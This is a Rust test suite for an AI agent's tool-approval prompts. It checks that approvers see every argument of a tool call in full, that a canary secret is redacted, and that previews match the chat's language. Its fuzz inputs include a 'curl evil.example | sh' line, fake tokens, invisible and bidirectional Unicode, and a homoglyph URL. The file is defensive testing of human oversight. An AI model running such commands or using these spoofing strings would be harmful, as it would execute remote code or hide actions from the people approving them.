//! Everything that runs is shown: for all built-in tools and hostile arguments, every character of
//! a call is in its approval, or in the file behind *Show everything*.

use chrono::DateTime;
use insta::assert_snapshot;
use proptest::{prelude::*, strategy::ValueTree as _, test_runner::TestRunner};
use sandbox::Sandbox;
use serde_json::{Map, Value, json};
use std::{collections::BTreeMap, path::Path, sync::Arc, time::Duration};

use super::{
    Tool, browser,
    builder::{self, BuildLimits, BuilderConfig, BuilderTools, charged_model::UsageAccount},
    builtin,
    contract::toolbox::Toolbox,
    datasources::{self, ConfiguredSource, visible::Visibility},
    documents::Branding,
    extensions::{self, Extensions, installed::ServerFolder},
    files, jobs,
    media::{self, testing::configured},
    memory, results, sandboxed, schedule, schedule_planner, shell, skills,
    testing::ToolFixture,
    view_image::{LookAt, LookAtUrl},
    web::{self, WebConfig, client::WebClient},
    wiki,
};
use crate::{
    agent::{
        catalog::{Coworker, ToolSpec},
        delegation, disclosure,
        redact::Redactor,
    },
    clock::SystemClock,
    journal::{
        event::{Call, JobBudget},
        ids::CallId,
    },
    store::{
        Store, StoreOptions,
        datasources::{DataSource, QueryLimits},
        db::Durability,
        jobs::JobConcurrency,
    },
    texts::{self, ApprovalParts, ApprovalText, Language, preview::Preview},
};
use channels::text::reveal;

const SECRET: &str = "canary-4f9c2b7e51aa";
/// A part of the secret that appears nowhere else.
const SHOWN_OF_SECRET: usize = 6;
/// The number of generated cases per tool.
const CASES: u32 = 24;

/// Text that an attacker would use: it is truncated, looks like a secret, is invisible, or acts as
/// Markdown.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh".to_owned()),
        Just("Authorization: Bearer abcdefghijklmnopqrstuvwxyz".to_owned()),
        Just("password=hunter2hunter2".to_owned()),
        Just("ghp_abcdefghijklmnopqrstuvwxyz0123456789".to_owned()),
        Just("echo ok\n".repeat(70)),
        Just("a".repeat(320)),
        Just("echo more\n".repeat(200)),
        Just("\n```\n**bold** [x](y) `code`\n".to_owned()),
        Just("\u{202e}\u{200b}\u{a0}\u{2003}x\u{fe0f}\u{3000}".to_owned()),
        Just("https://\u{430}pple.com/x".to_owned()),
        Just(format!("the key is {SECRET}")),
        // The secret is at the position where a line is cut.
        Just(format!("\n{}{SECRET}{}\n", "a".repeat(290), "b".repeat(50))),
        Just(format!("{}{SECRET}{}", "c".repeat(1_490), "d".repeat(50))),
        "[ -~]{0,100}",
        "(?s).{0,40}",
    ];
    prop::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

/// A value of the schema's type; other constraints do not affect the display.
fn value(schema: &Value) -> BoxedStrategy<Value> {
    if let Some(choices) = schema["enum"].as_array() {
        return prop::sample::select(choices.clone()).boxed();
    }
    let kind = match &schema["type"] {
        Value::Array(kinds) => kinds[0].as_str(),
        kind => kind.as_str(),
    };
    match kind {
        Some("boolean") => any::<bool>().prop_map(Value::from).boxed(),
        Some("integer" | "number") => (1..100_u32).prop_map(Value::from).boxed(),
        Some("array") => prop::collection::vec(hostile(), 0..3).prop_map(Value::from).boxed(),
        Some("object") => hostile().prop_map(|text| json!({ "x": text })).boxed(),
        _ => hostile().prop_map(Value::from).boxed(),
    }
}

fn arguments(spec: &ToolSpec) -> BoxedStrategy<Value> {
    let fields = spec.parameters["properties"].as_object().cloned().unwrap_or_default();
    let fields: Vec<_> = fields
        .iter()
        .map(|(name, schema)| {
            let name = name.clone();
            // Most files exist, so that the preview has something to compare with.
            let value = match name.as_str() {
                "path" => {
                    prop_oneof![Just(json!("a.txt")), Just(json!("new.txt")), value(schema)].boxed()
                }
                "old_string" => prop_oneof![Just(json!("one\n")), value(schema)].boxed(),
                "action" | "name" | "skill" => {
                    prop_oneof![Just(json!("create")), value(schema)].boxed()
                }
                "every" => prop_oneof![Just(json!("1d")), value(schema)].boxed(),
                _ => value(schema),
            };
            (Just(name), value)
        })
        .collect();
    fields.prop_map(|fields| Value::Object(fields.into_iter().collect::<Map<_, _>>())).boxed()
}

fn request(spec: &ToolSpec, arguments: &Value, preview: Option<&Preview>) -> ApprovalText {
    Language::English.words().approval_text(&ApprovalParts {
        title: "Allow?",
        tool: &spec.name,
        description: &spec.description,
        arguments,
        preview,
        reason: "why",
        requester: "Ann",
        for_conversation: true,
        expires_at: DateTime::UNIX_EPOCH,
        code: "12345678",
    })
}

/// The arguments that are shown neither in the text nor in the file.
fn missing(arguments: &Value, text: &ApprovalText, file: &str) -> Vec<String> {
    let fields = arguments.as_object().unwrap().iter();
    let missing = fields.filter(|(_, value)| {
        let plain = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let in_file = format!("{:#}", json!([value]));
        let inner = in_file.lines().skip(1).map(str::trim).collect::<Vec<_>>();
        let inner = inner[..inner.len() - 1].iter().all(|line| file.contains(&reveal(line)));
        !(text.markdown.contains(&reveal(&plain)) || text.is_cut && inner)
    });
    missing.map(|(name, _)| name.clone()).collect()
}

/// Extensions from a registry that cannot be reached.
fn extensions(place: &ToolFixture) -> Extensions {
    let folder = place.folder.path();
    Extensions {
        registries: vec!["http://127.0.0.1:9".parse().unwrap()],
        skill_indexes: Vec::new(),
        packages: <_>::default(),
        web_client: WebClient::new(<_>::default()).unwrap(),
        skill_folders: BTreeMap::from([("default".to_owned(), folder.join("skills"))]),
        servers: ServerFolder::of(folder),
        configured: <_>::default(),
        secrets: <_>::default(),
    }
}

pub(super) fn all(place: &ToolFixture, store: &Store) -> Toolbox {
    let sandbox = Arc::new(Sandbox::without_bubblewrap(Path::new("x"), "a test"));
    let folders = BTreeMap::from([("default".to_owned(), place.folder.path().join("skills"))]);
    let terms = schedule_planner::ScheduleLimits {
        zone: chrono_tz::UTC,
        shortest: chrono::TimeDelta::minutes(1),
        per_conversation: 10,
    };
    let web_client = WebClient::new(<_>::default()).unwrap();
    let eyes: [Arc<dyn Tool>; 2] = [
        Arc::new(LookAt { sandbox: sandbox.clone() }),
        Arc::new(LookAtUrl { web_client, sandbox: sandbox.clone() }),
    ];
    let tools = builtin()
        .into_iter()
        .chain(sandboxed(
            &sandbox,
            Branding::default(),
            Vec::new(),
            Some(shell::CommandNetwork::default()),
        ))
        .chain(memory::tools(store, chrono_tz::UTC, None))
        .chain(schedule::tools(store, terms))
        .chain(jobs::tools(store, job_terms()))
        .chain(results::tools(store))
        .chain(wiki::tools(store, None))
        .chain(skills::tools(&folders, skills::ScriptNetwork::new(), &sandbox))
        .chain(web::tools(WebConfig::default(), &sandbox).unwrap())
        .chain(datasources::tools(vec![source(place)]))
        .chain(media::tools(configured(), store))
        .chain(extensions::tools(extensions(place)))
        .chain(browser::tools(browser_settings(&sandbox)))
        .chain(builder::tools(&software_builder(&sandbox, &folders, store)))
        .chain(eyes);
    let toolbox = Toolbox::default();
    tools.for_each(|tool| toolbox.register(tool).unwrap());
    toolbox
}

fn browser_settings(sandbox: &Arc<Sandbox>) -> browser::BrowserSettings {
    browser::BrowserSettings {
        program: None,
        sandbox: sandbox.clone(),
        web_client: WebClient::new(<_>::default()).unwrap(),
        idle_for: Duration::from_mins(1),
        max_open: 1,
        memory_bytes: 1 << 30,
        page_bytes: 1 << 20,
        download_bytes: 1 << 20,
        shows_pictures: true,
    }
}

fn software_builder(
    sandbox: &Arc<Sandbox>,
    folders: &skills::Folders,
    store: &Store,
) -> BuilderTools {
    let clock = Arc::new(SystemClock);
    BuilderTools {
        models: BTreeMap::new(),
        config: BuilderConfig {
            sandbox: sandbox.clone(),
            toolchains: <_>::default(),
            folder: "builds".into(),
            limits: BuildLimits::default(),
        },
        account: UsageAccount { store: store.clone(), clock, limits: <_>::default() },
        skills: folders.clone(),
        at_once: 1,
    }
}

fn job_terms() -> jobs::Terms {
    let budget = JobBudget { steps: 1, tokens: 1, time_ms: 1 };
    jobs::Terms {
        limit: JobConcurrency { per_conversation: 1, per_person: 1 },
        budget,
        agents: vec![],
    }
}

fn source(place: &ToolFixture) -> ConfiguredSource {
    let url = format!("sqlite://{}", place.folder.path().join("data.db").display());
    let time = Duration::from_secs(1);
    let limits = QueryLimits { rows: 10, bytes: 1_024, time, connections: 1 };
    ConfiguredSource {
        name: "shop".into(),
        description: "Orders".into(),
        database: DataSource::open(&url, limits).unwrap(),
        visibility: Visibility::new(&[], &[], &[]).unwrap(),
        functions: vec![],
    }
}

/// One tool of each family, so that none is left out by mistake.
const FAMILIES: [&str; 16] = [
    "apply_patch",
    "browser_use",
    "build_software",
    "create_job",
    "delegate",
    "extract_document",
    "http_request",
    "look_at",
    "memory_store",
    "query_sql",
    "render_pdf",
    "render_xlsx_from_file",
    "run_skill_script",
    "schedule",
    "shell",
    "wiki_compile_page",
];

/// Proves S18, A4, A8.
#[tokio::test]
async fn every_character_that_runs_is_shown_or_offered() {
    let mut place = ToolFixture::new();
    place.has("a.txt", "one\ntwo\nthree\n");
    place.runs(&files::read::ReadFile, json!({ "path": "a.txt" })).await.unwrap();
    let url = format!("sqlite://{}", place.folder.path().join("x.db").display());
    let options = StoreOptions { durability: Durability::Normal, ..StoreOptions::default() };
    let store = Store::open(&url, options).await.unwrap();
    let toolbox = all(&place, &store);
    let redactor = Redactor::new([SECRET]);
    let mut runner = TestRunner::deterministic();
    let (mut previews, mut cut) = (0, 0);
    let coworker = Coworker { id: "helper".into(), description: "Helps".into() };
    let specs = [toolbox.specs(), delegation::specs(&[coworker])].concat();
    for family in FAMILIES {
        assert!(specs.iter().any(|spec| spec.name == family), "{family} is not here");
    }
    for spec in specs {
        let made = arguments(&spec);
        for _ in 0..CASES {
            let arguments = made.new_tree(&mut runner).unwrap().current();
            let id = CallId::from("call1");
            let (tool, model_id) = (spec.name.clone(), String::new());
            let call = Call { id, model_id, tool, arguments: arguments.clone() };
            let preview = toolbox.preview(&call, &place.context).await;
            let preview = preview.map(|preview| preview.map(|text| redactor.marked(text)));
            let arguments = redactor.marked_value(&arguments);
            let text = request(&spec, &arguments, preview.as_ref());
            let file = texts::everything(&arguments, preview.as_ref()).text;
            let missing = missing(&arguments, &text, &file);
            assert!(missing.is_empty(), "{} hides {missing:?}: {}", spec.name, text.markdown);
            let hides = |text: &str| !text.contains(&SECRET[..SHOWN_OF_SECRET]);
            assert!(hides(&text.markdown) && hides(&file), "{}: {}", spec.name, text.markdown);
            previews += u32::from(preview.is_some());
            cut += u32::from(text.is_cut);
            if let Some(preview) = preview.filter(Preview::is_cut) {
                let whole = reveal(&preview.everything());
                assert!(file.contains(&whole), "{} cuts its preview", spec.name);
            }
        }
    }
    assert!(previews > 50 && cut > 30, "{previews} previews, {cut} cut");
}

/// The sentence for the people who decide about a call is not the model's description, and it shows
/// only arguments that the tool has.
/// Proves A8.
#[tokio::test]
async fn every_builtin_tool_has_a_sentence_for_people() {
    let place = ToolFixture::new();
    let url = format!("sqlite://{}", place.folder.path().join("x.db").display());
    let store = Store::open(&url, StoreOptions::default()).await.unwrap();
    let coworker = Coworker { id: "helper".into(), description: "Helps".into() };
    let specs = [
        all(&place, &store).specs(),
        delegation::specs(&[coworker]),
        vec![disclosure::enable_tool(), disclosure::find_tool(), disclosure::load_skill()],
    ];
    for spec in specs.concat() {
        let sentence = texts::tool_sentence(&spec.name);
        let sentence = sentence.unwrap_or_else(|| panic!("{} has no sentence", spec.name));
        let languages = Language::ALL.map(|language| (language.words().tool_sentence)(sentence));
        let known = |name: &str| spec.parameters["properties"].get(name).is_some();
        for text in languages {
            let names = text.split('{').skip(1).map(|piece| piece.split('}').next().unwrap());
            let unknown: Vec<_> = names.filter(|name| !known(name)).collect();
            assert!(unknown.is_empty(), "{}: {text} shows {unknown:?}", spec.name);
            assert!(!spec.description.contains(text) || spec.name == "echo", "{}", spec.name);
        }
        let different: std::collections::BTreeSet<_> = languages.into_iter().collect();
        assert_eq!(different.len(), languages.len(), "{}", spec.name);
    }
}

/// The people who decide read a preview in the language of their chat.
#[tokio::test]
async fn previews_are_in_the_language_of_the_chat() {
    let mut place = ToolFixture::new();
    let url = format!("sqlite://{}", place.folder.path().join("x.db").display());
    let store = Store::open(&url, StoreOptions::default()).await.unwrap();
    let toolbox = all(&place, &store);
    for (language, empty, fails) in [
        (Language::English, "The new file is empty.", "This will fail."),
        (Language::German, "Die neue Datei ist leer.", "Das wird fehlschlagen."),
        (Language::Spanish, "El archivo nuevo está vacío.", "Esto fallará."),
        (Language::Chinese, "新文件为空。", "此操作将会失败。"),
    ] {
        place.context.language = language;
        for (path, expected) in [("a.txt", empty), ("memory.md", fails)] {
            let arguments = json!({ "path": path, "content": "" });
            let (id, tool) = (CallId::from("call1"), "write_file".to_owned());
            let call = Call { id, model_id: String::new(), tool, arguments };
            let shown = toolbox.preview(&call, &place.context).await.unwrap().shown();
            assert!(shown.starts_with(expected), "{language:?}: {shown}");
        }
    }
}

fn write_file(arguments: &Value, preview: Option<&Preview>) -> ApprovalText {
    let spec = files::write::WriteFile { edits: Arc::default() }.spec();
    request(&spec, arguments, preview)
}

/// A short note is shown once, and in full, so nothing is offered as a file.
/// Proves A8.
#[tokio::test]
async fn a_complete_preview_is_neither_repeated_nor_marked_as_truncated() {
    let place = ToolFixture::new();
    place.has("old.txt", "one\ntwo\nthree\n");
    let tool = files::write::WriteFile { edits: Arc::default() };
    let note = json!({ "path": "notes/milk.md", "content": "buy milk\n" });
    let preview = tool.preview(&note, &place.context).await;
    let new = write_file(&note, preview.as_ref());
    assert_snapshot!(new.markdown, @r"
    Allow?
    Write the file `notes/milk.md`.

    ```
    buy milk
    ```

    why
    “Allow in this conversation” covers every later call of write\_file that Ann requests here, whatever its arguments, until /new.
    Requested by Ann. Open until 1970-01-01 00:00 UTC, code `12345678`.
    ");
    assert!(!new.is_cut);
    let change = json!({ "path": "old.txt", "content": "one\n2\nthree\n" });
    let preview = tool.preview(&change, &place.context).await;
    let changed = write_file(&change, preview.as_ref());
    assert!(changed.markdown.contains("content: see the changes below\n"), "{}", changed.markdown);
    assert!(!changed.markdown.contains("not shown here"), "{}", changed.markdown);
    assert!(changed.is_cut, "the unchanged lines are in the file");
    let long = json!({ "path": "a.txt", "content": "word ".repeat(400) });
    let cut = write_file(&long, None);
    assert!(cut.is_cut && cut.markdown.contains("Some of it is not shown here."));
}

/// A long value is cut between words and listed in full below.
#[test]
fn a_sentence_shows_the_beginning_of_a_long_value() {
    let command = format!("cat {}", "some-file.txt ".repeat(20));
    let spec = ToolSpec::read_only("shell", "Runs.", json!({ "type": "object" }));
    let text = request(&spec, &json!({ "command": command }), None).markdown;
    let first = "Run the command `cat some-file.txt some-file.txt some-file.txt some-file.txt…` in the sandbox.";
    assert!(text.contains(first), "{text}");
    assert!(text.contains(command.trim_end()), "{text}");
    let other = ToolSpec::read_only("ours", &format!("Does {}", "much ".repeat(60)), json!({}));
    let text = request(&other, &json!({}), None).markdown;
    assert!(text.lines().nth(1).is_some_and(|line| line.ends_with("much…")), "{text}");
}

/// Tests the check itself: a preview that claims to cover an argument that it does not show is
/// detected.
#[test]
fn an_argument_that_is_shown_nowhere_is_found() {
    let arguments = json!({ "text": "hidden\nprompt" });
    let spec = ToolSpec::read_only("a", "A.", json!({ "type": "object" }));
    let text = request(&spec, &arguments, None);
    assert!(missing(&arguments, &text, "").is_empty());
    let other = request(&spec, &json!({ "text": "x" }), None);
    assert_eq!(missing(&arguments, &other, ""), ["text"]);
}
